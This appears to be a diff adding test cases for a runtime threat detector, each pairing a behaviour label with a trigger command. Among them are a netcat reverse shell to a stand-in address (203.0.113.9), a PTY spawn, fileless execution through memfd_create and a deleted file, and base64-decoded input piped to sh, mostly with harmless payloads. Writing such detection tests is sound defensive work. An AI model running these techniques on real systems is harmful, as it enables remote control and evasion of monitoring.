@@ -1,0 +1,26 @@
+## Suspicious Process Execution
+#in shop:1
+/bin/sh -c true
+## Reverse shell
+remote 'true'
+## Command of a reverse shell
+remote 'id'
+## Network tool given a shell
+timeout 1 busybox nc 203.0.113.9 4445 -e /bin/sh
+## Terminal made for a shell
+timeout 1 python3 -c 'import pty; pty.spawn("/bin/true")'
+## Executable run from memory
+python3 -c '
+import os
+fd = os.memfd_create("x"); os.write(fd, open("/bin/true", "rb").read()); os.execve(fd, ["x"], {})'
+## Executable run from a deleted file
+python3 -c '
+import os, shutil
+shutil.copy("/bin/true", "/home/ann/x"); fd = os.open("/home/ann/x", os.O_RDONLY); os.unlink("/home/ann/x"); os.execve(fd, ["x"], {})'
+## Executable run from a scratch folder
+#setup named /tmp/x
+/tmp/x
+## Execution refused in a scratch folder
+echo x > /tmp/x; /tmp/x
+## Code given to an interpreter in base64
+sh -c 'echo dHJ1ZQ== | base64 -d | sh'
